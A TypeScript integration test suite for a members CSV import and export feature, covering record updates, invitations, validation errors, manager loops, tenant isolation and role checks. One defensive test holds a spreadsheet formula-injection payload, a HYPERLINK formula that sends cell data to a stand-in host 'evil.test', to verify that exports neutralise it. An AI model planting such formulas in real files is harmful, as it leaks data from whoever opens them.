import { importRowMessage } from '@wac/shared/import-messages';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addMembership, createCompany, createDepartment, createUser, setEmployee } from '../../db/seed/factories';
import { parseCsv } from '../../lib/csv';
import { rows } from '../../lib/sql';
import { call, createTestApp, type TestContext, tokenFor } from '../../test/harness';
import { multipart } from '../../test/multipart';
import { linkIn, startSmtp } from '../../test/smtp';

/** Employee records through the members CSV import (docs/people.md, "CSV import and export"). */

let t: TestContext;
let smtp: Awaited<ReturnType<typeof startSmtp>>;
let u: Record<string, string>;
let tok: Record<string, string>;
const f: Record<string, string> = {};

beforeAll(async () => {
  smtp = await startSmtp(3314);
  t = await createTestApp({ config: { smtpUrl: smtp.url } });
  u = await t.db.system(async (tx) => {
    const acme = await createCompany(tx, { name: 'Acme', subDomain: 'acme' });
    const globex = await createCompany(tx, { name: 'Globex', subDomain: 'globex' });
    const person = async (email: string, company: string, roles = ['member']) => {
      const user = await createUser(tx, { email, firstName: email.split('@')[0], lastName: 'Test' });
      await addMembership(tx, company, user.id, { roles });
      return user.id;
    };
    const eng = await createDepartment(tx, acme.id, { name: 'Engineering' });
    await createDepartment(tx, acme.id, { name: 'Sales' });
    await createDepartment(tx, globex.id, { name: 'Research' });
    const ids = {
      acme: acme.id,
      globex: globex.id,
      eng: eng.id,
      admin: await person('admin@acme.test', acme.id, ['admin']),
      alice: await person('alice@acme.test', acme.id),
      bob: await person('bob@acme.test', acme.id),
      carol: await person('carol@acme.test', acme.id),
      dan: await person('dan@acme.test', acme.id),
      gina: await person('gina@globex.test', globex.id, ['admin']),
    };
    await setEmployee(tx, acme.id, ids.dan, { jobTitle: 'Driver', departmentId: eng.id, startDate: '2024-01-01' });
    return ids;
  });
  tok = {
    admin: (await tokenFor(t.app, u.admin!, u.acme!)).token,
    gina: (await tokenFor(t.app, u.gina!, u.globex!)).token,
  };
  const field = async (who: string, body: object) =>
    (
      await call(t.app, {
        method: 'POST',
        url: '/api/employees/fields',
        host: who === 'gina' ? 'globex' : 'acme',
        token: tok[who],
        payload: body,
      })
    ).json().uuid as string;
  f.shirt = await field('admin', { label: 'Shirt size', type: 'select', options: ['S', 'M', 'L'] });
  f.badge = await field('admin', { label: 'Badge', type: 'number' });
  f.anniversary = await field('admin', { label: 'Anniversary', type: 'date' });
  f.secret = await field('gina', { label: 'Secret', type: 'text' });
});
afterAll(async () => {
  await t.close();
  await smtp.close();
});

const send = (url: string, body: string, lang = 'en') => {
  const { payload, headers } = multipart(Buffer.from(body), { filename: 'members.csv', contentType: 'text/csv' });
  return call(t.app, {
    method: 'POST',
    url,
    host: 'acme',
    token: tok.admin,
    payload,
    headers: { ...headers, 'accept-language': lang },
  });
};
const csv = (...lines: string[]) => lines.join('\r\n');
/** Everything an import could change: records, invitations, audit entries. */
const state = () =>
  t.db.system(async (tx) => ({
    employees: await rows(
      tx,
      sql`SELECT user_id, job_title, department_id, manager_user_id, employment_type, start_date::text, end_date::text,
                 work_location, work_phone, emergency_name, emergency_relation, emergency_phone, custom, version
            FROM employees ORDER BY user_id`,
    ),
    invitations: await rows(tx, sql`SELECT email FROM invitations ORDER BY email`),
    // The import itself is audited on every commit (who imported what, when): the rest is what it changed.
    audit: (
      await rows<{ n: number }>(tx, sql`SELECT count(*)::int AS n FROM audit_log WHERE action <> 'member.import'`)
    )[0]!.n,
  }));
const record = async (who: string) =>
  (await call(t.app, { method: 'GET', url: `/api/employees/${u[who]}`, host: 'acme', token: tok.admin })).json();

describe('members CSV import with employee record columns', () => {
  const GOOD = csv(
    'email,firstName,lastName,role,jobTitle,department,managerEmail,employmentType,startDate,endDate,workPhone,Shirt size,badge,Anniversary',
    'alice@acme.test,Alice,Test,member,Engineer,engineering,carol@acme.test,Full time,2025-03-01,,+33 1 23 45 67 89,m,42,2030-01-31',
    // Blank cells leave Dan's values (job title, department, start date) as they are.
    'dan@acme.test,Dan,Test,member,,,,contractor,,2026-12-31,,,,',
    'new.person@example.org,New,Person,member,Analyst,Sales,alice@acme.test,,,,,,,',
  );

  it('previews record changes per row and writes nothing', async () => {
    const before = await state();
    const res = await send('/api/members/import/preview', GOOD);
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({ totalRows: 3, validRows: 3, invalidRows: 0, imported: 0, updated: 0 });
    expect(res.json().counts).toEqual({ valid: 3, invalid: 0, invited: 0, skipped: 0, updated: 0, unchanged: 0 });
    expect(res.json().problems).toEqual([]);
    expect(await state()).toEqual(before);
  });

  it('updates existing members (only the columns given, blank = unchanged), invites new emails, audits each change', async () => {
    const res = await send('/api/members/import', GOOD);
    expect(res.json()).toMatchObject({ totalRows: 3, imported: 1, updated: 2 });
    expect(res.json().counts).toMatchObject({ updated: 2, invited: 1, invalid: 0, skipped: 0 });
    const alice = await record('alice');
    expect(alice).toMatchObject({
      jobTitle: 'Engineer',
      department: { uuid: u.eng, name: 'Engineering' },
      manager: { uuid: u.carol },
      employmentType: 'full_time',
      startDate: '2025-03-01',
      endDate: null,
      workPhone: '+33 1 23 45 67 89',
      custom: { [f.shirt!]: 'M', [f.badge!]: 42, [f.anniversary!]: '2030-01-31' },
    });
    expect(await record('dan')).toMatchObject({
      jobTitle: 'Driver',
      department: { uuid: u.eng },
      employmentType: 'contractor',
      startDate: '2024-01-01',
      endDate: '2026-12-31',
    });
    const audits = await t.db.system((tx) =>
      rows<{
        target_id: string;
        before: { jobTitle: string | null };
        after: { jobTitle: string; employmentType: string };
      }>(tx, sql`SELECT target_id, before, after FROM audit_log WHERE action = 'employee.update' ORDER BY target_id`),
    );
    expect(audits.map((a) => a.target_id).sort()).toEqual([u.alice, u.dan].sort());
    const danAudit = audits.find((a) => a.target_id === u.dan)!;
    expect(danAudit.before).toMatchObject({ jobTitle: 'Driver', employmentType: null });
    expect(danAudit.after).toMatchObject({ jobTitle: 'Driver', employmentType: 'contractor' });
    // The invited person's record waits with the invitation and is written when they join.
    const { token } = linkIn((await smtp.next('new.person@example.org')).raw);
    const joined = await call(t.app, {
      method: 'POST',
      url: `/api/invitations/by-token/${token}/accept-new`,
      host: 'acme',
      payload: { firstName: 'New', lastName: 'Person', password: 'Wombat-4821', confirmPassword: 'Wombat-4821' },
    });
    expect(joined.statusCode).toBe(201);
    u.newPerson = joined.json().userUuid;
    expect(await record('newPerson')).toMatchObject({
      jobTitle: 'Analyst',
      department: { name: 'Sales' },
      manager: { uuid: u.alice },
    });
    // The same file again changes nothing: every member row is unchanged.
    const again = (await send('/api/members/import', GOOD)).json();
    expect(again).toMatchObject({ updated: 0, imported: 0 });
    expect(again.counts).toMatchObject({ unchanged: 3, updated: 0, invited: 0 });
  });

  it("writes an invited person's record when they join, leaving out what has gone since", async () => {
    const temp = await t.db.system((tx) => createDepartment(tx, u.acme!, { name: 'Temporary' }));
    const file = csv(
      'email,firstName,lastName,jobTitle,department,Shirt size',
      'late.joiner@example.org,Late,Joiner,Planner,Temporary,L',
    );
    expect((await send('/api/members/import', file)).json()).toMatchObject({ imported: 1 });
    await t.db.system((tx) => tx.execute(sql`DELETE FROM departments WHERE id = ${temp.id}`));
    const { token } = linkIn((await smtp.next('late.joiner@example.org')).raw);
    const joined = await call(t.app, {
      method: 'POST',
      url: `/api/invitations/by-token/${token}/accept-new`,
      host: 'acme',
      payload: { firstName: 'Late', lastName: 'Joiner', password: 'Wombat-4821', confirmPassword: 'Wombat-4821' },
    });
    expect(joined.statusCode).toBe(201);
    u.late = joined.json().userUuid;
    expect(await record('late')).toMatchObject({ jobTitle: 'Planner', department: null, custom: { [f.shirt!]: 'L' } });
    await t.db.system((tx) => tx.execute(sql`DELETE FROM memberships WHERE user_id = ${u.late}`));
  });

  it('reports each bad record cell per row, translated, and changes nothing', async () => {
    const before = await state();
    const file = csv(
      'email,firstName,lastName,uuid,jobTitle,department,managerEmail,startDate,endDate,Shirt size,Badge,Anniversary,employmentType',
      'bob@acme.test,Bob,Test,,Boss,Research,,,,,,,',
      'carol@acme.test,Carol,Test,,,,gina@globex.test,,,,,,',
      'dan@acme.test,Dan,Test,,,,,2026-05-01,2026-04-30,,,,',
      'admin@acme.test,Ad,Min,,,,,,,XXL,,,',
      'alice@acme.test,Alice,Test,,,,,,,,abc,2026-02-30,boss',
      `alice.uuid@acme.test,A,U,${u.gina},,,,,,,,,`,
      'nobody@acme.test,No,Body,00000000-0000-4000-8000-000000000000,,,,,,,,,',
      // Its email refused, and its record cells too: every fault of the row is said at once.
      'not-an-email,Eve,Test,,,Research,,2026-13-01,,,,,',
    );
    const res = await send('/api/members/import', file, 'fr');
    expect(res.statusCode).toBe(200);
    const body = res.json();
    const errs = body.problems.map((r: { status: string; errors: Array<{ field: string; code: string }> }) => [
      r.status,
      r.errors.map((e) => `${e.field}:${e.code}`),
    ]);
    expect(errs).toEqual([
      ['invalid', ['department:departmentNotFound']],
      ['invalid', ['managerEmail:managerNotFound']],
      ['invalid', ['endDate:endBeforeStart']],
      ['invalid', ['Shirt size:option']],
      ['invalid', ['employmentType:employmentType', 'Badge:number', 'Anniversary:date']],
      ['invalid', ['uuid:notFound']],
      ['invalid', ['uuid:notFound']],
      ['invalid', ['email:email', 'department:departmentNotFound', 'startDate:date']],
    ]);
    expect(body.problems[0].errors[0].message).toBe(importRowMessage('departmentNotFound', 'fr'));
    expect(body.problems[4].errors[1].message).toBe('Ce n’est pas un nombre.');
    expect(body.problems[2].errors[0].message).toBe('La date de fin est antérieure à la date de début.');
    // A foreign person's id and an id that exists nowhere read the same.
    expect(body.problems[5].errors).toEqual(body.problems[6].errors);
    expect(body).toMatchObject({ imported: 0, updated: 0 });
    expect(await state()).toEqual(before);
  });

  it('refuses a manager loop, through the database chain or formed within the file', async () => {
    const before = await state();
    const throughDb = csv('email,firstName,lastName,managerEmail', 'carol@acme.test,Carol,Test,alice@acme.test');
    const res = (await send('/api/members/import', throughDb, 'ar')).json();
    expect(res.problems[0]).toMatchObject({
      status: 'invalid',
      errors: [{ field: 'managerEmail', code: 'managerCycle' }],
    });
    expect(res.problems[0].errors[0].message).toBe(importRowMessage('managerCycle', 'ar'));
    const self = (
      await send('/api/members/import', csv('email,firstName,lastName,manager', 'bob@acme.test,Bob,Test,bob@acme.test'))
    ).json();
    expect(self.problems[0].errors[0].code).toBe('managerSelf');
    expect(await state()).toEqual(before);
    // Within the file: Bob → Dan, Dan → Bob. The later row closes the loop and is refused; the earlier applies.
    const inFile = csv(
      'email,firstName,lastName,managerEmail',
      'bob@acme.test,Bob,Test,dan@acme.test',
      'dan@acme.test,Dan,Test,bob@acme.test',
    );
    const preview = (await send('/api/members/import/preview', inFile)).json();
    expect(preview.counts).toMatchObject({ valid: 1, invalid: 1 });
    expect(preview.problems.map((r: { line: number }) => r.line)).toEqual([3]);
    expect(preview.problems[0].errors[0].code).toBe('managerCycle');
    const done = (await send('/api/members/import', inFile)).json();
    expect(done).toMatchObject({ updated: 1 });
    expect((await record('bob')).manager.uuid).toBe(u.dan);
    expect((await record('dan')).manager).toBeNull();
  });

  it('refuses a column naming a field id that is not this company’s: 404, the same for a foreign and an unknown id', async () => {
    const before = await state();
    const foreign = await send(
      '/api/members/import/preview',
      csv(`email,firstName,lastName,${f.secret}`, 'bob@acme.test,B,T,x'),
    );
    const unknown = await send(
      '/api/members/import/preview',
      csv('email,firstName,lastName,00000000-0000-4000-8000-000000000000', 'bob@acme.test,B,T,x'),
    );
    expect(foreign.statusCode).toBe(404);
    expect(unknown.statusCode).toBe(404);
    expect(foreign.json()).toEqual(unknown.json());
    // By id, one of this company's fields is a column like its label.
    const own = (
      await send('/api/members/import/preview', csv(`email,firstName,lastName,${f.badge}`, 'bob@acme.test,B,T,x'))
    ).json();
    expect(own.problems[0].errors[0]).toMatchObject({ field: 'Badge', code: 'number' });
    expect(await state()).toEqual(before);
  });

  it('refuses oversized files with record columns, changing nothing', async () => {
    const before = await state();
    const big = await send(
      '/api/members/import/preview',
      `email,firstName,lastName,jobTitle\r\n${'a'.repeat(33_600_000)}`,
    );
    expect(big.statusCode).toBe(413);
    expect(big.json().code).toBe('IMPORT_FILE_TOO_LARGE');
    const tooMany = csv(
      'email,firstName,lastName,jobTitle',
      ...Array.from({ length: 100_001 }, (_, i) => `p${i}@x.io,P,Q,J`),
    );
    const res = await send('/api/members/import', tooMany, 'de');
    expect(res.statusCode).toBe(400);
    expect(res.json().code).toBe('IMPORT_TOO_MANY_ROWS');
    expect(await state()).toEqual(before);
  });

  it('exports the record columns in the members export, and importing the export changes nothing', async () => {
    await t.db.system((tx) =>
      setEmployee(tx, u.acme!, u.carol!, {
        workLocation: 'Paris, "HQ"',
        workPhone: '+1 555 0100',
        jobTitle: '=SUM(1)',
      }),
    );
    const exported = await call(t.app, {
      method: 'GET',
      url: '/api/members/export.csv',
      host: 'acme',
      token: tok.admin,
    });
    expect(exported.statusCode).toBe(200);
    const [header, ...lines] = exported.body
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n');
    expect(header).toBe(
      'uuid,email,firstName,lastName,roles,enabled,schedulingEnabled,emailEnabled,videoCallEnabled,createdAt,' +
        'jobTitle,department,managerEmail,employmentType,startDate,endDate,workLocation,workPhone,' +
        'emergencyName,emergencyRelation,emergencyPhone,Anniversary,Badge,Shirt size',
    );
    const aliceLine = lines.find((l) => l.includes('alice@acme.test'))!;
    expect(aliceLine).toContain('Engineer,Engineering,carol@acme.test,full_time,2025-03-01,,,');
    expect(aliceLine).toContain("'+33 1 23 45 67 89");
    expect(aliceLine.endsWith(',2030-01-31,42,M')).toBe(true);
    const before = await state();
    const res = (await send('/api/members/import', exported.body)).json();
    expect(res).toMatchObject({ totalRows: 6, imported: 0, updated: 0, invalidRows: 0 });
    expect(res.counts).toMatchObject({ unchanged: 6, updated: 0, invited: 0 });
    expect(await state()).toEqual(before);
  });

  it("guards a custom field's label in the exports' header like any cell, and the guarded header imports back", async () => {
    const label = '=HYPERLINK("https://evil.test/?"&B2,"Grade"), band';
    const admin = (method: 'GET' | 'POST' | 'PATCH' | 'DELETE', url: string, payload?: object) =>
      call(t.app, { method, url, host: 'acme', token: tok.admin, payload });
    const field = (await admin('POST', '/api/employees/fields', { label, type: 'text' })).json().uuid as string;
    const version = (await record('alice')).version;
    expect((await admin('PATCH', `/api/employees/${u.alice}`, { version, custom: { [field]: 'B2' } })).statusCode).toBe(
      200,
    );
    try {
      for (const url of ['/api/members/export.csv', '/api/employees/export.csv', '/api/members/import/template.csv']) {
        const body = (await admin('GET', url)).body.replace(/^\uFEFF/, '');
        const [header, ...lines] = parseCsv(body);
        // The label is one cell (its comma does not shift the columns under it) that no spreadsheet runs.
        expect(header, url).toContain(`'${label}`);
        expect(body.split('\r\n')[0], url).not.toMatch(/(^|,)=/);
        for (const line of lines) expect(line.length, url).toBe(header!.length);
      }
      const exported = (await admin('GET', '/api/members/export.csv')).body;
      const before = await state();
      const res = (await send('/api/members/import', exported)).json();
      expect(res).toMatchObject({ invalidRows: 0, counts: { updated: 0, invited: 0 } });
      expect(await state()).toEqual(before);
      // The guarded header still names the field: a changed value imports into it.
      const changed = exported.replace(',B2,', ',C3,');
      expect((await send('/api/members/import', changed)).json()).toMatchObject({
        invalidRows: 0,
        counts: { updated: 1 },
      });
      expect((await record('alice')).custom[field]).toBe('C3');
    } finally {
      await admin('DELETE', `/api/employees/fields/${field}`);
    }
  });

  it('offers a template of the columns, custom fields included', async () => {
    const res = await call(t.app, {
      method: 'GET',
      url: '/api/members/import/template.csv',
      host: 'acme',
      token: tok.admin,
    });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toContain('text/csv');
    expect(res.body.replace(/^\uFEFF/, '')).toBe(
      'email,firstName,lastName,role,jobTitle,department,managerEmail,employmentType,startDate,endDate,' +
        'workLocation,workPhone,emergencyName,emergencyRelation,emergencyPhone,Anniversary,Badge,Shirt size\r\n',
    );
  });

  it('leaves records to those who write People/HR: a platform writer may import members, not records', async () => {
    const writer = await t.db.system((tx) =>
      createUser(tx, { email: 'writer@platform.test', roles: ['super_admin', 'super_admin_write'] }),
    );
    const token = (await tokenFor(t.app, writer.id, u.acme!, ['super_admin', 'super_admin_write'])).token;
    const before = await state();
    const { payload, headers } = multipart(
      Buffer.from(csv('email,firstName,lastName,jobTitle', 'bob@acme.test,Bob,Test,Spy')),
      { filename: 'members.csv', contentType: 'text/csv' },
    );
    const res = await call(t.app, {
      method: 'POST',
      url: '/api/members/import',
      host: 'acme',
      token,
      payload,
      headers,
    });
    expect(res.statusCode).toBe(403);
    expect(await state()).toEqual(before);
    const plain = multipart(Buffer.from(csv('email,firstName,lastName', 'new.one@example.org,New,One')), {
      filename: 'members.csv',
      contentType: 'text/csv',
    });
    const preview = await call(t.app, {
      method: 'POST',
      url: '/api/members/import/preview',
      host: 'acme',
      token,
      payload: plain.payload,
      headers: plain.headers,
    });
    expect(preview.json()).toMatchObject({ validRows: 1 });
    const exported = await call(t.app, { method: 'GET', url: '/api/members/export.csv', host: 'acme', token });
    expect(exported.statusCode).toBe(200);
    expect(exported.body).not.toContain('jobTitle');
    expect(exported.body).not.toContain('Engineer');
  });
});
